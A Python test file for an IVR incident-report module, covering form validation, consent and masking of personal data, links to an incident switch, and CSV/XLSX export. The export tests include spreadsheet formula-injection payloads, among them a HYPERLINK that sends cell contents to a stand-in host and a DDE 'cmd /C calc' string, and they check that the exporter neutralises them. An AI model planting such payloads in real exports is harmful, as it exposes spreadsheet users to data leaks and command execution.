"""Incident reports (ivr/incidents): the form's rules, the link to the incident switch, export."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook

from ivr.citas.flags import flag_registry
from ivr.citas.reference import load_reference
from ivr.incidents.export import HEADER, reports_csv, reports_xlsx
from ivr.incidents.reports import NewIncidentReport, check
from ivr.incidents.store import IncidentReportStore, ReportFilter
from ivr.ops.flags import Role
from ivr.ops.service import Actor, FlagService, Forbidden, InvalidChange, NotFound
from ivr.ops.store import OpsStore
from ivr.store.db import Database

T0 = datetime(2026, 11, 30, 13, 0, tzinfo=UTC)
VIEWER = Actor("token:vera", Role.VIEWER)
OPERATOR = Actor("token:omar", Role.OPERATOR)
FORM = NewIncidentReport(
    occurred_at=T0 - timedelta(minutes=20),
    channels=("telefono", "whatsapp"),
    description="La afiliada no pudo agendar: el sistema se quedó cargando",
    error_message="Error 503: servicio no disponible",
)


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> datetime:
        return self.now


# --- the form's rules (pure) --------------------------------------------------------------------
WITH_DATA = {"consent": True, "document_type": "CC", "document": "1020304050",
             "affiliate_name": "Ana María Rojas", "affiliate_phone": "300 123 4567"}  # fmt: skip
REFUSED = [
    ("future", {"occurred_at": T0 + timedelta(minutes=10)}, "occurred_at"),
    ("too old", {"occurred_at": T0 - timedelta(days=400)}, "occurred_at"),
    ("no channel", {"channels": ()}, "channels"),
    ("unknown channel", {"channels": ("fax",)}, "channels"),
    ("no description", {"description": "   "}, "description"),
    ("no error message", {"error_message": ""}, "error_message"),
    ("long description", {"description": "x" * 4001}, "description"),
    ("data without consent", {**WITH_DATA, "consent": False}, "consent"),
    ("a document alone without consent", {"document": "1020304050", "document_type": "CC"}, "consent"),
    ("a phone alone without consent", {"affiliate_phone": "3001234567"}, "consent"),
    ("a name alone without consent", {"affiliate_name": "Ana"}, "consent"),
    ("document without type", {**WITH_DATA, "document_type": None}, "document_type"),
    ("document with spaces", {**WITH_DATA, "document": "10 20 30"}, "document"),
    ("bad phone", {**WITH_DATA, "affiliate_phone": "12"}, "affiliate_phone"),
    ("bad case number", {"case_numbers": ("12345",)}, "case_numbers"),
    ("letters for a case", {"case_numbers": ("abcdefg",)}, "case_numbers"),
    ("a wrong check digit", {"case_numbers": ("0123458",)}, "case_numbers"),
    ("two digits swapped", {"case_numbers": ("1023459",)}, "case_numbers"),
]  # fmt: skip


@pytest.mark.parametrize(("case", "change", "field"), REFUSED, ids=[r[0] for r in REFUSED])
def test_the_form_refuses_with_the_field_named(case: str, change: dict[str, object], field: str) -> None:  # fmt: skip
    with pytest.raises(InvalidChange) as caught:
        check(replace(FORM, **change), T0)  # type: ignore[arg-type]
    assert [d["field"] for d in caught.value.details] == [field]


def test_the_form_is_normalised() -> None:
    checked = check(
        replace(FORM, channels=("web", "web", "telefono"), description="  algo  ",  # type: ignore[arg-type]
                **{**WITH_DATA, "affiliate_name": "  Ana   María  Rojas "},
                case_numbers=(" 012 345-9 ", "0123459")),
        T0,
    )  # fmt: skip
    assert checked.channels == ("web", "telefono")
    assert checked.description == "algo"
    assert checked.affiliate_name == "Ana María Rojas"
    assert checked.affiliate_phone == "+573001234567"
    assert checked.case_numbers == ("0123459",)


def test_consent_without_data_and_a_small_clock_skew_are_accepted() -> None:
    checked = check(replace(FORM, consent=True, occurred_at=T0 + timedelta(minutes=4)), T0)
    assert checked.consent and checked.document is None


# --- the store (SQLite, and PostgreSQL when CITAS_TEST_PG_URL is set) -----------------------------
@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def store(db: Database, clock: Clock) -> IncidentReportStore:
    return IncidentReportStore(db, clock, check_cases=False)


@pytest.fixture
def flags(db: Database, clock: Clock) -> FlagService:
    return FlagService(OpsStore(db), flag_registry(load_reference()), clock=clock)


async def test_a_report_with_consent_keeps_the_data_and_masks_it_in_lists(store: IncidentReportStore) -> None:  # fmt: skip
    report = await store.file(OPERATOR, replace(FORM, **WITH_DATA))  # type: ignore[arg-type]
    full = report.as_json(masked=False)
    assert (full["document"], full["affiliate_phone"], full["consent_at"]) == (
        "1020304050", "+573001234567", T0.isoformat(),
    )  # fmt: skip
    [listed] = await store.list(ReportFilter())
    shown = listed.as_json(masked=True)
    assert (shown["document"], shown["affiliate_name"], shown["affiliate_phone"]) == (
        "*******050", "Ana M. R.", "+*********567",
    )  # fmt: skip
    assert "1020304050" not in str(shown) and "3001234567" not in str(shown)
    assert listed.reported_by == "token:omar" and listed.reported_at == T0


async def test_a_viewer_cannot_file_and_nothing_is_written(store: IncidentReportStore) -> None:
    with pytest.raises(Forbidden):
        await store.file(VIEWER, FORM)
    with pytest.raises(InvalidChange):
        await store.file(OPERATOR, replace(FORM, **{**WITH_DATA, "consent": False}))  # type: ignore[arg-type]
    assert await store.list(ReportFilter()) == []
    with pytest.raises(NotFound):
        await store.get(1)


async def test_the_report_links_the_incident_switch_as_it_was_at_the_error(
    store: IncidentReportStore, flags: FlagService, clock: Clock
) -> None:
    # off by default; switched on at T0+1h by an operator; a window turns it off later
    clock.now = T0 + timedelta(hours=1)
    await flags.set_incident(OPERATOR, True, "caída del agendador")
    clock.now = T0 + timedelta(hours=2)
    window = await flags.schedule(
        OPERATOR, "incident_mode", False, T0 + timedelta(hours=3), T0 + timedelta(hours=4), "prueba"
    )
    clock.now = T0 + timedelta(hours=5)
    before = await store.file(OPERATOR, replace(FORM, occurred_at=T0 + timedelta(minutes=30)))
    during = await store.file(OPERATOR, replace(FORM, occurred_at=T0 + timedelta(hours=1, minutes=5)))  # fmt: skip
    in_window = await store.file(OPERATOR, replace(FORM, occurred_at=T0 + timedelta(hours=3, minutes=1)))  # fmt: skip
    after = await store.file(OPERATOR, replace(FORM, occurred_at=T0 + timedelta(hours=4, minutes=1)))  # fmt: skip

    assert (before.incident.active, before.incident.source, before.incident.audit_id) == (False, "default", None)  # fmt: skip
    assert (during.incident.active, during.incident.source) == (True, "set")
    assert (in_window.incident.active, in_window.incident.source) == (False, "window")
    assert in_window.incident.window_id == window.id
    assert (after.incident.active, after.incident.source) == (True, "set")
    detail = (await store.get(during.id)).as_json(masked=False)["incident"]
    assert detail["audit"]["reason"] == "caída del agendador"
    assert detail["audit"]["action"] == "incident_on" and detail["audit"]["actor"] == "token:omar"
    window_detail = (await store.get(in_window.id)).as_json(masked=False)["incident"]
    assert window_detail["window"]["id"] == window.id and window_detail["window"]["reason"] == "prueba"  # fmt: skip


async def test_a_window_cancelled_before_the_error_does_not_count(
    store: IncidentReportStore, flags: FlagService, clock: Clock
) -> None:
    window = await flags.schedule(OPERATOR, "incident_mode", True, T0, T0 + timedelta(hours=2), "x")
    clock.now = T0 + timedelta(minutes=30)
    await flags.cancel_window(OPERATOR, window.id, "falsa alarma")
    clock.now = T0 + timedelta(hours=3)
    early = await store.file(OPERATOR, replace(FORM, occurred_at=T0 + timedelta(minutes=10)))
    late = await store.file(OPERATOR, replace(FORM, occurred_at=T0 + timedelta(minutes=40)))
    assert (early.incident.active, early.incident.source) == (True, "window")
    assert (late.incident.active, late.incident.source) == (False, "default")


async def test_the_list_filters(store: IncidentReportStore, clock: Clock) -> None:
    clock.now = T0 + timedelta(days=2)
    a = await store.file(OPERATOR, replace(FORM, channels=("web",), occurred_at=T0))
    b = await store.file(OPERATOR, replace(FORM, case_numbers=("0123459",), occurred_at=T0 + timedelta(days=1)))  # fmt: skip
    ids = lambda found: [r.id for r in found]  # noqa: E731
    assert ids(await store.list(ReportFilter())) == [b.id, a.id]  # newest error first
    assert ids(await store.list(ReportFilter(channel="web"))) == [a.id]
    assert ids(await store.list(ReportFilter(case_number="0123459"))) == [b.id]
    assert ids(await store.list(ReportFilter(since=T0 + timedelta(hours=1)))) == [b.id]
    assert ids(await store.list(ReportFilter(until=T0 + timedelta(hours=1)))) == [a.id]
    assert ids(await store.list(ReportFilter(incident_active=True))) == []
    assert ids(await store.list(ReportFilter(limit=1, offset=1))) == [a.id]


# --- export: CSV and XLSX, with formula-injection cells ---------------------------------------
INJECTIONS = {
    "description": '=HYPERLINK("http://x.example/?"&A1,"ver")',
    "error_message": "@SUM(1+1)*cmd|' /C calc'!A0",
    "extra": "+57 300 111 2233 llamó",
    "affiliate_name": "-Ana Rojas",
}
FORMULA = re.compile(r"^\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")


async def test_exports_neutralise_formulas_and_mask_personal_data(
    store: IncidentReportStore,
) -> None:
    await store.file(OPERATOR, replace(FORM, **{**WITH_DATA, **INJECTIONS}))  # type: ignore[arg-type]
    reports = await store.list(ReportFilter())

    [header, row] = list(csv.reader(io.StringIO(reports_csv(reports), newline="")))
    assert tuple(header) == HEADER
    values = dict(zip(header, row, strict=True))
    assert values["Descripción"] == "'" + INJECTIONS["description"]
    assert values["Mensaje de error"] == "'" + INJECTIONS["error_message"]
    assert values["Información adicional"] == "'" + INJECTIONS["extra"]
    assert values["Nombre del afiliado"] == "'-Ana R."
    assert values["Documento"] == "*******050" and "1020304050" not in reports_csv(reports)
    assert values["Fecha y hora del error"] == "2026-11-30 07:40"  # Bogotá time
    assert all(not FORMULA.match(c) or c.startswith("'") for c in row)

    sheet = load_workbook(BytesIO(reports_xlsx(reports))).worksheets[0]
    [xheader, xrow] = [[(c.value, c.data_type) for c in r] for r in sheet.iter_rows()]
    assert [v for v, _ in xheader] == list(HEADER)
    cells = dict(zip(HEADER, xrow, strict=True))
    assert cells["Descripción"] == ("'" + INJECTIONS["description"], "s")
    assert cells["Mensaje de error"] == ("'" + INJECTIONS["error_message"], "s")
    assert cells["Reporte"][1] == "n"
    assert all(kind != "f" for _, kind in xrow)


async def test_an_unmasked_export_has_the_full_data(store: IncidentReportStore) -> None:
    await store.file(OPERATOR, replace(FORM, **WITH_DATA))  # type: ignore[arg-type]
    text = reports_csv(await store.list(ReportFilter()), masked=False)
    assert "1020304050" in text and "'+573001234567" in text and "Ana María Rojas" in text


async def test_the_linked_cases_must_exist(db: Database, clock: Clock) -> None:
    from ivr.cases.config import load_cases_config
    from ivr.cases.model import NewCase
    from ivr.cases.store import CaseStore

    config = load_cases_config()
    cases = CaseStore(db, config.calendar_for, config, clock=clock)
    case = await cases.file(NewCase(
        affiliate_id="1001", specialty="general", service_id="mg_first", cups="890201",
        site_id="norte", channel="voice", summary="sin cupos",
    ))  # fmt: skip
    store = IncidentReportStore(db, clock)
    report = await store.file(OPERATOR, replace(FORM, case_numbers=(case.number,)))
    assert report.new.case_numbers == (case.number,)
    with pytest.raises(InvalidChange) as caught:
        await store.file(OPERATOR, replace(FORM, case_numbers=(case.number, "0123459")))
    assert caught.value.details == [{"field": "case_numbers", "message": "no existe: 0123459"}]
    assert [r.id for r in await store.list(ReportFilter())] == [report.id]
